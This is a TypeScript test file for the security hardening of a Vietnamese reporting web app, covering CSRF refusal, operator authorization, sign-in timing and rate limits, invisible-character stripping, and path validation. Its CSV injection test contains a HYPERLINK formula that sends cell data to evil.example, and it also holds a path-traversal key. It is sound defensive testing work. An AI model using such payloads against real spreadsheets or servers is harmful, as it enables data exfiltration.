/** Issue 14, hostile requests and text: bad paths, cross-site posts, sign-in probing, invisible text, CSV formulas. */

import { ConditionalCheckFailedException } from '@aws-sdk/client-dynamodb';
import { PutCommand, UpdateCommand } from '@aws-sdk/lib-dynamodb';
import { describe, expect, it } from 'vitest';
import { makeHandler as makeApi } from '../../functions/api';
import { organization } from '../../shared/config';
import { validateSubmission } from '../../shared/domain/submission';
import { auditCsv } from '../../shared/features/reports/pages';
import { cleanUserText } from '../../shared/format/clean-text';
import { csvCell } from '../../shared/format/csv';
import { crossSiteRefusal, decodePathSegments } from '../../shared/http/request-guard';
import { actingUser, type Request } from '../../shared/http/router';
import vp from '../../shared/sample/submissions/2021-Q1/VP.json' with { type: 'json' };
import { getTemplate } from '../../shared/templates';
import { ddb, deps, httpEvent } from './handlers-harness';

const event = (method: string, path: string, headers: Record<string, string>, body?: string) => ({
  ...httpEvent(method, path, body),
  headers: { host: 'baocao.example', ...headers },
});

describe('malformed percent-encoding in a path', () => {
  it.each(['/nop/%C0%AE', '/decision/%E0%A4%A', '/reports/%ZZ/audit.csv', '/api/reports/%C0%AE'])(
    '%s answers 400 in Vietnamese',
    async (path) => {
      expect(decodePathSegments(path)).toBeUndefined();
      const res = await makeApi(deps)(event('GET', path, {}));
      expect(res.statusCode).toBe(400);
      expect(res.body).toContain('Đường dẫn không hợp lệ');
      if (path.startsWith('/api/')) expect(JSON.parse(res.body ?? '')).toEqual({ message: expect.stringContaining('mã hóa phần trăm') });
      else expect(res.headers?.['content-type']).toContain('text/html');
    },
  );
});

/** A request the local HTTP API marked as the operator's (it carried the per-start token). */
const asOperator = <E extends ReturnType<typeof event>>(e: E): E => ({
  ...e,
  requestContext: { ...e.requestContext, authorizer: { lambda: { operator: 'local' } } },
});

describe('cross-site requests', () => {
  const local = () => ({ ...deps(), local: true });
  it('refuses a cross-site form POST to an operator page (reopen) and changes nothing', async () => {
    const d = local();
    const res = await makeApi(() => d)(
      asOperator(
        event(
          'POST',
          '/periods/2021-Q1/reopen',
          { origin: 'https://evil.example', 'content-type': 'application/x-www-form-urlencoded' },
          'division=VP',
        ),
      ),
    );
    expect(res.statusCode).toBe(403);
    expect(res.body).toContain('trang web khác');
    expect(ddb.commandCalls(UpdateCommand)).toHaveLength(0);
    expect(ddb.commandCalls(PutCommand)).toHaveLength(0);
    expect(d.sent).toHaveLength(0);
  });

  it('refuses an operator page POST that proves no origin, and Sec-Fetch-Site cross-site or same-site', () => {
    const req = { method: 'POST', isApi: false, surface: 'operator' as const };
    expect(crossSiteRefusal({ ...req, headers: { host: 'a.example' } })?.status).toBe(403);
    expect(crossSiteRefusal({ ...req, headers: { host: 'a.example', 'sec-fetch-site': 'same-site' } })?.status).toBe(403);
    expect(crossSiteRefusal({ ...req, headers: { host: 'a.example', origin: 'null' } })?.status).toBe(403);
    expect(crossSiteRefusal({ ...req, headers: { host: 'a.example', 'sec-fetch-site': 'same-origin' } })).toBeUndefined();
    // Our pages answer "Referrer-Policy: no-referrer": Chromium then posts our own forms with "Origin: null".
    expect(crossSiteRefusal({ ...req, headers: { host: 'a.example', origin: 'null', 'sec-fetch-site': 'same-origin' } })).toBeUndefined();
    expect(
      crossSiteRefusal({ ...req, headers: { host: 'a.example', origin: 'https://a.example', 'sec-fetch-site': 'none' } })?.status,
    ).toBe(403);
    expect(crossSiteRefusal({ ...req, headers: { host: 'a.example', origin: 'https://a.example' } })).toBeUndefined();
    expect(crossSiteRefusal({ ...req, method: 'GET', headers: { origin: 'https://evil.example' } })).toBeUndefined();
    // A public link page (decision) confirmed by a script without browser headers stays possible.
    expect(crossSiteRefusal({ ...req, surface: 'public', headers: { host: 'a.example' } })).toBeUndefined();
    expect(crossSiteRefusal({ ...req, surface: 'public', headers: { host: 'a.example', origin: 'https://b.example' } })?.status).toBe(403);
  });

  it('refuses text/plain "JSON" to /api with 415, and a foreign Origin with 403', async () => {
    const d = local();
    const plain = await makeApi(() => d)(
      asOperator(event('POST', '/api/periods/2021-Q1/reopen', { 'content-type': 'text/plain' }, '{"division":"VP"}')),
    );
    expect(plain.statusCode).toBe(415);
    expect(JSON.parse(plain.body ?? '').message).toContain('application/json');
    const foreign = await makeApi(() => d)(
      asOperator(
        event(
          'POST',
          '/api/periods/2021-Q1/reopen',
          { 'content-type': 'application/json', origin: 'https://evil.example' },
          '{"division":"VP"}',
        ),
      ),
    );
    expect(foreign.statusCode).toBe(403);
    expect(ddb.commandCalls(UpdateCommand)).toHaveLength(0);
    expect(d.sent).toHaveLength(0);
  });
});

describe('operator actions on the local system need the operator (loopback is not authorization)', () => {
  const local = () => ({ ...deps(), local: true });
  it('/api without the operator mark answers 403 in Vietnamese and changes nothing, whatever the request says', async () => {
    const d = local();
    const attempts: Record<string, string>[] = [
      { 'content-type': 'application/json' },
      { 'content-type': 'application/json', authorization: 'Bearer guessed', 'x-baocao-operator': 'local' },
    ];
    for (const headers of attempts) {
      const res = await makeApi(() => d)(event('POST', '/api/periods/2021-Q1/reopen', headers, '{"division":"VP"}'));
      expect(res.statusCode).toBe(403);
      expect(JSON.parse(res.body ?? '').message).toContain('mã vận hành');
    }
    expect(ddb.commandCalls(UpdateCommand)).toHaveLength(0);
    expect(d.sent).toHaveLength(0);
  });

  it('operator pages without it ask for the sign-in, as on AWS; public links stay open', async () => {
    const d = local();
    const page = await makeApi(() => d)(event('GET', '/periods/2021-Q1', {}));
    expect(page).toMatchObject({ statusCode: 302, headers: { location: '/signin' } });
    const post = await makeApi(() => d)(
      event(
        'POST',
        '/periods/2021-Q1/reopen',
        { origin: 'https://baocao.example', 'content-type': 'application/x-www-form-urlencoded' },
        'division=VP',
      ),
    );
    expect([302, 303, 404]).toContain(post.statusCode);
    expect(ddb.commandCalls(UpdateCommand)).toHaveLength(0);
    expect((await makeApi(() => d)(event('GET', '/signin', {}))).statusCode).toBe(200);
  });

  it('the operator mark means nothing on AWS (only the local HTTP API sets it)', async () => {
    const res = await makeApi(deps)(asOperator(event('GET', '/periods/2021-Q1', {})));
    expect(res).toMatchObject({ statusCode: 302, headers: { location: '/signin' } });
  });
});

describe('sign-in', () => {
  const signin = (email: string, headers: Record<string, string> = { origin: 'https://baocao.example' }) =>
    event('POST', '/signin', { 'content-type': 'application/x-www-form-urlencoded', ...headers }, `email=${encodeURIComponent(email)}`);

  it('answers an allowed and an unknown address alike, after the same floor time', async () => {
    const d = { ...deps(), signinAnswerMs: 300 };
    const time = async (email: string) => {
      const t = performance.now();
      const res = await makeApi(() => d)(signin(email));
      return { res, ms: performance.now() - t };
    };
    const unknown = await time('ke.la@x.example');
    const known = await time(organization.compiler.email);
    expect(unknown.res.body).toBe(known.res.body);
    expect(unknown.ms).toBeGreaterThanOrEqual(295);
    expect(Math.abs(unknown.ms - known.ms)).toBeLessThan(100);
    expect(d.sent).toHaveLength(1);
  });

  it('a full window (per address or per source) answers 429 and sends nothing, known address or not', async () => {
    const d = { ...deps(), signinAnswerMs: 0 };
    ddb.on(UpdateCommand).rejects(new ConditionalCheckFailedException({ message: 'limit', $metadata: {} }));
    for (const email of [organization.compiler.email, 'ke.la@x.example']) {
      const res = await makeApi(() => d)(signin(email));
      expect(res.statusCode).toBe(429);
      expect(res.body).toContain('quá nhiều yêu cầu đăng nhập');
    }
    expect(d.sent).toHaveLength(0);
    const counter = ddb.commandCalls(UpdateCommand)[0].args[0].input;
    expect(counter.ConditionExpression).toBe('attribute_not_exists(#n) OR #n < :limit');
    expect(counter.ExpressionAttributeValues?.[':limit']).toBe(5);
    expect(String(counter.Key?.pk)).toMatch(/^SIGNIN#RATE#(addr|ip)#/);
    expect(JSON.stringify(counter)).not.toContain('ke.la');
  });

  it('the confirming POST refuses a foreign Origin or no proof of origin', async () => {
    const d = deps();
    const variants: Record<string, string>[] = [{ origin: 'https://evil.example' }, { 'sec-fetch-site': 'cross-site' }, {}];
    for (const headers of variants) {
      const res = await makeApi(() => d)(event('POST', '/signin/s1', headers));
      expect(res.statusCode).toBe(403);
    }
    expect(ddb.commandCalls(UpdateCommand)).toHaveLength(0);
  });
});

describe('invisible text', () => {
  it('strips zero-width and bidi controls, and refuses a text of only those, naming the field', () => {
    expect(cleanUserText('  Nguyễn\u200B Văn\u202E A\u2066 ', { field: 'tên người thực hiện' })).toEqual({
      ok: true,
      text: 'Nguyễn Văn A',
    });
    expect(cleanUserText('Nguyê\u0303n', { field: 'x' })).toEqual({ ok: true, text: 'Nguyễn' });
    const only = cleanUserText('\u200B\u200B\u202E\uFEFF', { field: 'ý kiến' });
    expect(only).toEqual({ ok: false, message: expect.stringContaining('Ý kiến phải có chữ nhìn thấy được') });
    expect(cleanUserText('   ', { field: 'lý do' })).toEqual({ ok: false, message: 'Chưa nhập lý do.' });
    expect(cleanUserText('', { field: 'lý do', optional: true })).toEqual({ ok: true, text: '' });
  });

  it('an actor name of only U+200B is refused; U+202E is removed from one that has letters', () => {
    const req = { user: 'local' } as Request;
    expect(() => actingUser({ organization }, req, '\u200B\u200B')).toThrow(/Tên người thực hiện phải có chữ nhìn thấy được/);
    expect(actingUser({ organization }, req, 'Trần\u202E B')).toBe('Trần B');
  });

  it('narratives and text cells lose invisible characters; an invisible-only required cell is missing', () => {
    const template = getTemplate('cchc');
    const ctx = { organization, expectedDivision: 'VP', expectedPeriod: '2021-Q1' };
    const raw = structuredClone(vp) as Record<string, unknown> & { narratives: Record<string, unknown> };
    const key = Object.keys(raw.narratives)[0];
    raw.narratives[key] = ['\u200B\u200C', 'Đã \u202Ethực hiện'];
    const res = validateSubmission(template, raw, ctx);
    expect(res.submission?.narratives[key]).toEqual(['Đã thực hiện']);
  });
});

describe('CSV injection in audit.csv', () => {
  it('prefixes formula-looking cells with an apostrophe and escapes quotes', () => {
    const actor = '=HYPERLINK("https://evil.example/?x="&A1,"Bấm")';
    const csv = auditCsv([{ at: '2021-12-16T03:00:00Z', actor, action: 'report.abandon', detail: { comment: '+1' } }]);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Bấm"")"`);
    expect(csv).not.toMatch(/(^|,)"=/m);
    for (const s of ['+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(csvCell(s)).toBe(`"'${s}"`);
    expect(csvCell('Nguyễn Văn A')).toBe('"Nguyễn Văn A"');
  });
});

describe('overlong path segments and odd status keys', () => {
  it('a segment over 200 characters answers 400 in Vietnamese without touching the table', async () => {
    const long = 'x'.repeat(201);
    for (const path of [`/reports/${long}`, `/api/reports/${long}`, `/o/${long}/periods/2021-Q1`, `/nop/${long}`]) {
      const res = await makeApi(deps)(asOperator(event('GET', path, {})));
      expect(res.statusCode, path.slice(0, 20)).toBe(400);
      expect(res.body).toContain('dài quá 200 ký tự');
    }
    expect(ddb.calls()).toHaveLength(0);
  });

  it('an upload status poll for anything but an upload key is a 404, never a lookup', async () => {
    for (const key of ['a,b', 'raw/../../x', 'submissions/2021-Q1/VP/v0001.json', 'raw/2021-Q1/VP/n-zz.json']) {
      // API Gateway joins a repeated parameter with commas: "?key=a&key=b" arrives as "a,b".
      const res = await makeApi(deps)({ ...event('GET', '/api/uploads/status', {}), queryStringParameters: { key } });
      expect(res.statusCode, key).toBe(404);
      expect(JSON.parse(res.body ?? '').message).toContain('Mã tệp (key)');
    }
    expect(ddb.calls()).toHaveLength(0);
  });
});
